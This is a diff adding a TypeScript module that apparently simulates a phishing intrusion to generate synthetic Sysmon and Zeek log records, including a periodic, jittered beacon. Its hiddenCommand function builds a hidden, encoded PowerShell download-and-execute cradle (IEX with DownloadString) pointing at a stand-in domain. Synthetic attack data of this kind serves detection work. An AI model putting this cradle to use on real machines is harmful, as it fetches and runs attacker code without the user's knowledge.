@@ -1,0 +1,65 @@
+import { drawInteger, drawLognormal } from "../../stats/draw.ts";
+import { lookUp } from "../activities/talk.ts";
+import { encodeCommand } from "../base64.ts";
+import type { Service, User } from "../organisation-types.ts";
+import { powershell } from "../programs-plan.ts";
+import { processConnected, processQueried, type RunningProcess } from "../records/sysmon.ts";
+import { newConnection, zeekConn, zeekSsl } from "../records/zeek.ts";
+import type { Scene } from "../traffic-types.ts";
+
+/** Who is written to, by whom, and where the implant calls home. */
+export interface PhishingCast {
+  readonly victim: User;
+  readonly alsoAsked: readonly User[];
+  readonly sender: string;
+  readonly senderAddress: string;
+  readonly documentName: string;
+  readonly home: Service;
+  readonly implant: { readonly processId: number; readonly guid: string };
+  readonly periodMs: number;
+  readonly jitter: number;
+}
+
+/** The command that the macro starts: hidden, encoded, and harmless here for its address exists nowhere. */
+export function hiddenCommand(cast: PhishingCast): string {
+  const script = `$w=New-Object Net.WebClient;$w.Headers.Add('Accept','text/plain');IEX $w.DownloadString('https://${cast.home.domain}/s/${cast.periodMs}')`;
+  return `powershell.exe -NoP -NonI -W Hidden -EncodedCommand ${encodeCommand(script)}`;
+}
+
+/** The machine and account of the victim. */
+export function machineOf({ organisation }: Scene, { victim }: PhishingCast) {
+  return { computer: victim.workstation.name, account: `${organisation.netbios}\\${victim.name}` };
+}
+
+/** The process that runs the hidden command. */
+export function implantOf(scene: Scene, cast: PhishingCast): RunningProcess {
+  const { computer, account } = machineOf(scene, cast);
+  return { computer: `${computer}.${scene.organisation.domain}`, account, image: powershell.image, ...cast.implant };
+}
+
+/** One call: small, nearly always of the same size. The machine's own log shows it only where a process is given. */
+export function callHome(scene: Scene, delayMs: number, cast: PhishingCast, process: RunningProcess | null): void {
+  const { random, identifiers } = scene;
+  const from = cast.victim.workstation.address;
+  const to = cast.home.addresses[0] ?? "192.0.2.1";
+  const connection = newConnection(identifiers, { from, to, toPort: 443 });
+  if (process !== null) {
+    lookUp(scene, delayMs, from, cast.home.domain, cast.home.addresses);
+    scene.emit(delayMs + 15, "windows", processQueried(process, cast.home.domain, cast.home.addresses));
+    scene.emit(
+      delayMs + 60,
+      "windows",
+      processConnected(process, { from, fromPort: connection.fromPort, to, toPort: 443, name: cast.home.domain }),
+    );
+  }
+  const summary = {
+    protocol: "tcp",
+    service: "ssl",
+    state: "SF",
+    durationMs: drawLognormal(random, 420, 0.15),
+    bytesOut: 614 + drawInteger(random, 0, 24),
+    bytesIn: 1_180 + drawInteger(random, 0, 40),
+  } as const;
+  scene.emit(delayMs + 40, "zeek.conn", zeekConn(connection, summary));
+  scene.emit(delayMs + 70, "zeek.ssl", zeekSsl(connection, cast.home.domain));
+}
